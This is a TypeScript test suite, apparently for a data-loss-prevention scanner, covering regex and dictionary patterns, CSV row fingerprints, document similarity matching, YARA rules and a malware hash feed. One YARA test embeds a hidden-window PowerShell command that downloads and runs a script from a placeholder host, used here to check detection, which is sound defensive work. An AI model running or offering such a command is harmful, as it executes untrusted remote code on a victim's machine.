import assert from 'node:assert/strict'
import { mkdtempSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from 'node:test'
import { isFault } from '#core/fault.ts'
import type { PartInspector } from '#inspection/file/walk.ts'
import { loadYara } from '#inspection/malware/yara.ts'
import { loadHashFeed } from '#inspection/malware/hash-feed.ts'
import { buildDocuments } from './build-documents.ts'
import { buildRows } from './build-rows.ts'
import { loadDocumentMatch } from './document-match.ts'
import { customPatterns } from './patterns.ts'
import { loadRowMatch } from './row-match.ts'

const folder = mkdtempSync(join(tmpdir(), 'sallyport-custom-'))
const look = (inspector: PartInspector, text: string) =>
  inspector.look({ bytes: Buffer.from(text), text: Buffer.from(text), sha256: () => '', name: null })

test('a pattern that would hang another engine comes to its end', () => {
  const inspector = customPatterns([{ type: 'PROJECT', kind: 'pattern', pattern: '(a+)+$', confidence: 0.9, least: 1 }])
  // An engine that goes back would try two to the power of fifty thousand ways.
  assert.deepEqual(look(inspector, `${'a'.repeat(50_000)}!`), [])
  assert.throws(
    () => customPatterns([{ type: 'X', kind: 'pattern', pattern: '(?=x)', confidence: 1, least: 1 }]),
    (error) => isFault(error, 'document-invalid'),
  )
  assert.throws(
    () => customPatterns([{ type: 'X', kind: 'pattern', pattern: 'x'.repeat(2000), confidence: 1, least: 1 }]),
    (error) => isFault(error, 'document-invalid'),
  )
})

test('finds words of a dictionary as people write them, in code points, from the least number on', () => {
  const inspector = customPatterns([
    { type: 'CODENAME', kind: 'words', words: ['Blue Heron', 'Ürsa'], confidence: 0.8, least: 2 },
  ])
  const found = look(inspector, '😀 the BLUE-HERON plan and ürsa')
  assert.deepEqual(
    found.map(({ start, end }) => [start, end]),
    [
      [6, 16],
      [26, 30],
    ],
  )
  assert.deepEqual(look(inspector, 'only blue heron'), [])
})

test('matches rows by key and cells nearby, and never by one of them alone', async () => {
  const csv = join(folder, 'people.csv')
  const rows = Array.from(
    { length: 3000 },
    (_, at) => `ACC-${100_000 + at * 7},First${at},"Last, ${at}",user${at}@example.com`,
  )
  writeFileSync(csv, ['account,first,last,mail', ...rows].join('\r\n'))
  const out = join(folder, 'people.rows')
  const made = await buildRows(csv, out, {
    name: 'people',
    key: 'account',
    columns: ['account', 'first', 'mail'],
    least: 1,
  })
  assert.equal(made.rows, 3000)
  assert.ok(made.bytes / made.rows < 30, 'ten million rows fit 300 MB')
  const inspector = await loadRowMatch(out)
  const found = look(inspector, 'Please close acc 100070 of FIRST10 today')
  assert.deepEqual(
    found.map(({ start, end, label }) => [start, end, label]),
    [[13, 23, 'people: key and 1 of 2 cells']],
  )
  assert.equal(look(inspector, 'user10@example.com has account ACC-100070')[0]?.type, 'ROW_MATCH')
  assert.deepEqual(look(inspector, 'account ACC-100070 alone'), [])
  assert.deepEqual(look(inspector, 'ACC-100071 of First10 user10@example.com'), [])
  const bytes = readFileSync(out).toString('latin1')
  for (const cell of ['First10', '100070', 'user10', 'example'])
    assert.equal(bytes.includes(cell), false, 'no cell is in the file')
  writeFileSync(join(folder, 'broken'), 'SPROWS1\n')
  await assert.rejects(loadRowMatch(join(folder, 'broken')), (error) => isFault(error, 'configuration-invalid'))
})

test('matches documents whole, in part, and within other texts', async () => {
  const sentence = (at: number) =>
    `Clause ${at} says that party number ${at * 13} shall deliver item ${at * 7} before week ${at * 3} without any further notice to the other side.`
  const contract = Array.from({ length: 80 }, (_, at) => sentence(at)).join('\n')
  mkdirSync(join(folder, 'documents'))
  writeFileSync(join(folder, 'documents', 'contract.txt'), contract)
  writeFileSync(join(folder, 'documents', 'tiny.txt'), 'too short')
  const out = join(folder, 'documents.json')
  assert.deepEqual(await buildDocuments(join(folder, 'documents'), out), { documents: 1, skipped: ['tiny.txt'] })
  const inspector = await loadDocumentMatch(out)
  const typesOf = (text: string) => look(inspector, text).map(({ type }) => type)
  assert.deepEqual(typesOf(contract.toUpperCase().replaceAll('\n', '   ')), ['DOCUMENT_MATCH_90'])
  const other = Array.from(
    { length: 400 },
    (_, at) => `Other words about weather ${at} and rivers of region ${at * 17} in spring.`,
  ).join(' ')
  assert.deepEqual(
    typesOf(`${other} ${contract} ${other}`),
    ['DOCUMENT_MATCH_90'],
    'the whole document within a longer text',
  )
  assert.deepEqual(
    typesOf(Array.from({ length: 30 }, (_, at) => sentence(at)).join(' ')),
    ['DOCUMENT_MATCH_90'],
    'a text that is all from the document',
  )
  const third = `${Array.from({ length: 28 }, (_, at) => sentence(at)).join(' ')} ${other}`
  assert.deepEqual(typesOf(third), ['DOCUMENT_MATCH_25'])
  assert.deepEqual(typesOf(other), [])
  assert.equal(readFileSync(out, 'utf8').includes('Clause'), false)
})

test('the starter rules of YARA load and find what they describe', async (t) => {
  const yara = await loadYara()
  if (yara === null) return t.skip('the YARA engine has no package for this platform')
  const script = `powershell -windowstyle hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"`
  assert.deepEqual(
    look(yara, script).map(({ label }) => label),
    ['powershell_download_and_run'],
  )
  assert.deepEqual(look(yara, 'an article about powershell'), [])
})

test('a hash feed knows its files and refuses anything else', async () => {
  const file = join(folder, 'hashes')
  writeFileSync(file, `# feed\n${'ab'.repeat(32)}\n`)
  const feed = await loadHashFeed(file)
  const part = { bytes: Buffer.alloc(0), text: null, name: null }
  assert.equal(feed.look({ ...part, sha256: () => 'ab'.repeat(32) })[0]?.type, 'KNOWN_MALWARE')
  assert.deepEqual(feed.look({ ...part, sha256: () => 'cd'.repeat(32) }), [])
  writeFileSync(file, 'not a hash\n')
  await assert.rejects(loadHashFeed(file), (error) => isFault(error, 'document-invalid'))
})
